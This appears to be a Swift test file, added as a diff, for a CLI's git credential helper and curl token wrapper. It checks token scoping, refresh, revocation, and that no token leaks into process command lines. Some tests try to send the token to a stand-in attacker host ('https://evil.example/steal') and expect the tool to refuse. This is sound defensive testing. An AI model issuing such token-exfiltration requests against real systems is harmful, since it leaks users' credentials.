@@ -1,0 +1,218 @@
+// The git credential helper with the real git, against a smart-HTTP server that checks tokens
+// at the emulator; `strivacity curl` and the documented curl pipelines with the real curl; and
+// no token in any process's command line meanwhile.
+import CurlTransport
+import Foundation
+import Glibc
+import StrivacityCore
+import StrivacityTestSupport
+import Testing
+
+extension Harness {
+  /// A profile for the password journey whose git_hosts name `hosts`; signed in.
+  func gitProfile(hosts: [String]) throws {
+    let list = hosts.map { "\"\($0)\"" }.joined(separator: ", ")
+    try home.write(".config/strivacity/config.toml", """
+      [profiles.\(profile)]
+      tenant = "\(emulator.issuer)"
+      client_id = "strivacity-cli"
+      git_hosts = [\(list)]
+      """)
+    try signIn()
+  }
+
+  /// A PATH where `git-credential-strivacity` is this build's binary (as packages link it).
+  func helperPath() throws -> String {
+    let bin = home.file("bin")
+    try FileManager.default.createDirectory(atPath: bin, withIntermediateDirectories: true)
+    let link = bin + "/git-credential-strivacity"
+    if !FileManager.default.fileExists(atPath: link) {
+      try FileManager.default.createSymbolicLink(atPath: link, withDestinationPath: TestEnvironment.binary("strivacity"))
+    }
+    return bin + ":/usr/bin:/bin"
+  }
+
+  /// Runs git with only our helper configured, never prompting.
+  func git(_ arguments: [String], in directory: String? = nil) throws -> ProcessResult {
+    var env = environment
+    env["PATH"] = try helperPath()
+    env["GIT_TERMINAL_PROMPT"] = "0"
+    env["GIT_CONFIG_NOSYSTEM"] = "1"
+    let base = ["/usr/bin/git", "-c", "credential.helper=", "-c", "credential.helper=strivacity",
+                "-c", "user.name=t", "-c", "user.email=t@example.com", "-c", "init.defaultBranch=main"]
+    return try run(base + arguments, environment: env, currentDirectory: directory)
+  }
+
+  func credential(_ action: String, _ input: String) throws -> ProcessResult {
+    try run([TestEnvironment.binary("strivacity"), "credential", action], environment: environment, stdin: input)
+  }
+}
+
+@Suite struct GitAndCurlTests {
+  @Test func cloneAndPushWithTheHelper() throws {
+    let h = try Harness(journey: "password")
+    let server = try GitServer(introspect: h.emulator.issuer)
+    try h.gitProfile(hosts: [server.host])
+    let clone = try h.git(["clone", "-q", server.url, h.home.file("work")])
+    #expect(clone.status == 0, "\(clone.stderr)")
+    let commit = try h.git(["commit", "-q", "--allow-empty", "-m", "second"], in: h.home.file("work"))
+    #expect(commit.status == 0, "\(commit.stderr)")
+    let push = try h.git(["push", "-q", "origin", "HEAD:main"], in: h.home.file("work"))
+    #expect(push.status == 0, "\(push.stderr)")
+    let seen = server.seen.withLock { $0 }
+    #expect(seen.users.allSatisfy { $0 == "oauth2" } && !seen.users.isEmpty)
+    #expect(seen.tokens.allSatisfy { $0 == (try? h.storedSecret()?["tokens"]?["access_token"]?.string) ?? "" })
+    let log = try run(["/usr/bin/git", "--git-dir", server.root.file("repo.git"), "log", "--format=%s", "main"], environment: ["PATH": "/usr/bin:/bin"])
+    #expect(log.stdout == "second\nfirst\n")
+    #expect(clone.stdout.isEmpty && !clone.stderr.contains("sat_"), "no token in git's output")
+  }
+
+  @Test func anotherHostGetsNothing() throws {
+    let h = try Harness(journey: "password")
+    let ours = try GitServer(introspect: h.emulator.issuer)
+    let theirs = try GitServer(introspect: h.emulator.issuer)
+    try h.gitProfile(hosts: [ours.host])
+    let clone = try h.git(["clone", "-q", theirs.url, h.home.file("other")])
+    #expect(clone.status != 0)
+    #expect(theirs.seen.withLock { $0.tokens.isEmpty }, "no token was offered to the other host")
+    let get = try h.credential("get", "protocol=http\nhost=\(theirs.host)\n")
+    #expect(get.status == 0)
+    #expect(get.stdout.isEmpty && get.stderr.isEmpty, "silent, so git asks its next helper")
+    let https = try h.credential("get", "protocol=https\nhost=evil.example\n")
+    #expect(https.stdout.isEmpty)
+  }
+
+  @Test func anExpiredTokenIsRefreshedBetweenGitOperations() throws {
+    let h = try Harness(journey: "password")
+    let server = try GitServer(introspect: h.emulator.issuer)
+    try h.gitProfile(hosts: [server.host])
+    #expect(try h.git(["clone", "-q", server.url, h.home.file("work")]).status == 0)
+    try h.expireStoredAccessToken(in: 10)
+    let fetch = try h.git(["fetch", "-q"], in: h.home.file("work"))
+    #expect(fetch.status == 0, "\(fetch.stderr)")
+    #expect(try h.grants("refresh_token") == 1)
+    #expect(server.seen.withLock { $0.tokens.last } == (try h.storedSecret()?["tokens"]?["access_token"]?.string))
+  }
+
+  @Test func aRevokedTokenMakesGitFailAndErase() throws {
+    let h = try Harness(journey: "password")
+    let server = try GitServer(introspect: h.emulator.issuer)
+    try h.gitProfile(hosts: [server.host])
+    #expect(try h.git(["clone", "-q", server.url, h.home.file("work")]).status == 0)
+    let access = try #require(try h.storedSecret()?["tokens"]?["access_token"]?.string)
+    _ = try CurlHTTPClient().send(HTTPRequest(
+      method: "POST", url: h.emulator.issuer + "oauth2/revoke", headers: [HTTPHeader("Content-Type", "application/x-www-form-urlencoded")],
+      body: Array("token=\(access)".utf8)))
+    let failed = try h.git(["fetch", "-q"], in: h.home.file("work"))
+    #expect(failed.status != 0, "the revoked token is refused")
+    // git called erase with it: the cached access token is expired now, the refresh token kept.
+    let stored = try #require(try h.storedSecret()?["tokens"])
+    #expect(stored["access_token"]?.string == access)
+    #expect((stored["expires_at"]?.int ?? .max) < Int(Date().timeIntervalSince1970))
+    #expect(stored["refresh_token"]?.string != nil)
+    let again = try h.git(["fetch", "-q"], in: h.home.file("work"))
+    #expect(again.status == 0, "the next get refreshes: \(again.stderr)")
+    #expect(try h.grants("refresh_token") == 1)
+  }
+
+  @Test func bearerForGitsThatCanTakeIt() throws {
+    // git 2.46+ sends capability[]=authtype; git here is older, so speak to the helper directly.
+    let h = try Harness(journey: "password")
+    try h.gitProfile(hosts: ["127.0.0.1:9"])
+    let access = try #require(try h.storedSecret()?["tokens"]?["access_token"]?.string)
+    let expiry = try #require(try h.storedSecret()?["tokens"]?["expires_at"]?.int)
+    let bearer = try h.credential("get", "capability[]=authtype\ncapability[]=state\nprotocol=http\nhost=127.0.0.1:9\nwwwauth[]=Bearer realm=\"x\"\n\n")
+    #expect(bearer.stdout == "capability[]=authtype\nauthtype=Bearer\ncredential=\(access)\nephemeral=true\npassword_expiry_utc=\(expiry)\n")
+    let basic = try h.credential("get", "protocol=http\nhost=127.0.0.1:9\npath=repo.git\n")
+    #expect(basic.stdout == "username=oauth2\npassword=\(access)\npassword_expiry_utc=\(expiry)\n")
+    #expect(try h.credential("store", "protocol=http\nhost=127.0.0.1:9\nusername=oauth2\npassword=\(access)\n").stdout.isEmpty)
+    // erase with someone else's password leaves ours alone; with ours, it expires it.
+    #expect(try h.credential("erase", "protocol=http\nhost=127.0.0.1:9\npassword=not-ours\n").status == 0)
+    #expect(try h.storedSecret()?["tokens"]?["expires_at"]?.int == expiry)
+    #expect(try h.credential("erase", "protocol=http\nhost=127.0.0.1:9\nauthtype=Bearer\ncredential=\(access)\n").status == 0)
+    #expect((try h.storedSecret()?["tokens"]?["expires_at"]?.int ?? .max) < expiry)
+    let garbage = try h.credential("get", "this is not the protocol\n")
+    #expect(garbage.status == 0 && garbage.stdout.isEmpty)
+    #expect(garbage.stderr == "strivacity: error: git credential: credential request line 1 is not key=value\n")
+  }
+
+  @Test func gitAsIsUsesTheHelperByItsName() throws {
+    // argv[0] dispatch: `git credential-strivacity get` runs our binary as the helper.
+    let h = try Harness(journey: "password")
+    try h.gitProfile(hosts: ["127.0.0.1:9"])
+    var env = h.environment
+    env["PATH"] = try h.helperPath()
+    let result = try run(["/usr/bin/git", "credential-strivacity", "get"], environment: env, stdin: "protocol=http\nhost=127.0.0.1:9\n")
+    #expect(result.stdout.hasPrefix("username=oauth2\npassword=sat_"), "\(result.stderr)")
+  }
+
+  @Test func setupGitAddsAndRemovesTheHelper() throws {
+    let h = try Harness(journey: "password")
+    try h.gitProfile(hosts: [])
+    var env = h.environment
+    env["PATH"] = try h.helperPath()
+    let setup = try run([TestEnvironment.binary("strivacity"), "setup-git", "--profile", h.profile, "--host", "git.example.com"], environment: env)
+    #expect(setup.status == 0, "\(setup.stderr)")
+    _ = try run(["/usr/bin/git", "config", "--global", "--add", "credential.https://git.example.com.helper", "cache"], environment: env)
+    let helpers = try run(["/usr/bin/git", "config", "--global", "--get-all", "credential.https://git.example.com.helper"], environment: env)
+    #expect(helpers.stdout == "strivacity\ncache\n", "next to other helpers")
+    let config = try String(contentsOfFile: h.home.file(".config/strivacity/config.toml"), encoding: .utf8)
+    #expect(config.contains("git_hosts = [\"git.example.com\"]"))
+    let undo = try run([TestEnvironment.binary("strivacity"), "setup-git", "--profile", h.profile, "--host", "git.example.com", "--undo"], environment: env)
+    #expect(undo.status == 0, "\(undo.stderr)")
+    #expect(try run(["/usr/bin/git", "config", "--global", "--get-all", "credential.https://git.example.com.helper"], environment: env).stdout == "cache\n")
+    #expect(try String(contentsOfFile: h.home.file(".config/strivacity/config.toml"), encoding: .utf8).contains("git_hosts = []"))
+  }
+
+  @Test func curlGetsTheTokenWithoutArgv() throws {
+    let h = try Harness(journey: "password")
+    try h.gitProfile(hosts: [])
+    let access = try #require(try h.storedSecret()?["tokens"]?["access_token"]?.string)
+    // Slow answers keep the processes alive while /proc is searched for the token.
+    try h.control("faults", ["endpoint": "userinfo", "kind": "delay", "delay": .number(1.5), "count": 3])
+    let userinfo = h.emulator.issuer + "userinfo"
+    let strivacity = TestEnvironment.binary("strivacity")
+    let commands = [
+      [strivacity, "curl", "--profile", h.profile, "--", "-sS", userinfo],
+      ["/bin/bash", "-c", "\"$0\" token --profile \"$1\" --format curl | curl -sS -K - \"$2\"", strivacity, h.profile, userinfo],
+      ["/bin/bash", "-c", "curl -sS -H @<(\"$0\" token --profile \"$1\" --format header) \"$2\"", strivacity, h.profile, userinfo],
+    ]
+    for command in commands {
+      let box = ResultBox()
+      let done = DispatchSemaphore(value: 0)
+      DispatchQueue.global().async {
+        box.result = try? run(command, environment: h.environment)
+        done.signal()
+      }
+      var leaked: [String] = []
+      var scans = 0
+      while done.wait(timeout: .now() + 0.05) == .timedOut {
+        scans += 1
+        for pid in (try? FileManager.default.contentsOfDirectory(atPath: "/proc")) ?? [] where pid.allSatisfy(\.isNumber) {
+          if let cmdline = FileManager.default.contents(atPath: "/proc/\(pid)/cmdline"), String(decoding: cmdline, as: UTF8.self).contains(access) {
+            leaked.append(pid)
+          }
+        }
+      }
+      #expect(scans > 5, "the scan ran while the command did")
+      #expect(leaked.isEmpty, "the token is in the command line of \(leaked)")
+      let output = try #require(box.result)
+      #expect(output.status == 0, "\(output.stderr)")
+      #expect(JSONValue.parse(output.stdout)?["email"] == "demo@example.com", "the token reached the server: \(output.stdout)")
+    }
+  }
+
+  @Test func curlRefusesOtherHosts() throws {
+    let h = try Harness(journey: "password")
+    try h.gitProfile(hosts: [])
+    let result = try h.strivacity(["curl", "--profile", h.profile, "--", "-sS", "https://evil.example/steal"])
+    #expect(result.status == 2)
+    #expect(result.stderr.contains("refusing to send the token to evil.example"))
+    let none = try h.strivacity(["curl", "--profile", h.profile, "--", "-sS", "--version"])
+    #expect(none.status == 2)
+  }
+}
+
+final class ResultBox: @unchecked Sendable {
+  var result: ProcessResult?
+}
